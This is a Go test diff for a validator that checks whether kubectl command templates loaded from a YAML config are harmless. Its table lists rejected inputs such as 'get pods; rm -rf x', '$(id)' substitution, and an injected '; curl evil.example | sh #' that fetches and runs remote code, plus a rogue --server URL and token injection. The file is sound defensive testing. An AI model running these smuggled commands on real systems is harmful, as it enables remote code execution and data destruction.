@@ -81,7 +81,9 @@ func TestWith(t *testing.T) {
 // What comes from a ConfigMap has nobody run anything.
 func TestHarmless(t *testing.T) {
 	for kubectl, want := range map[string]bool{
-		"get pod {store}": true, "logs {pod} -c {container}": true, "delete pod {store}": false, "get pods; rm -rf x": false, "get pods $(id)": false, "exec {pod} -- id": false, "get {kind|pods}": true,
+		"get pod {store}": true, "logs {pod} -c {container}": true, "delete pod {store}": false, "get pods; rm -rf x": false, "get pods $(id)": false, "exec {pod} -- id": false, "get {kind|pods}": false,
+		"get pods {store|; curl evil.example | sh #}": false, "get pods --server=https://evil.example": false, "get pods --token={store}": false,
+		"logs {pod} -n {namespace} --previous --tail=50": true, "get pods -l app={store} -o wide": true,
 	} {
 		entries, err := Load("acme.yaml", []byte(strings.ReplaceAll(good, "get configmap {store}", kubectl)))
 		if err != nil {
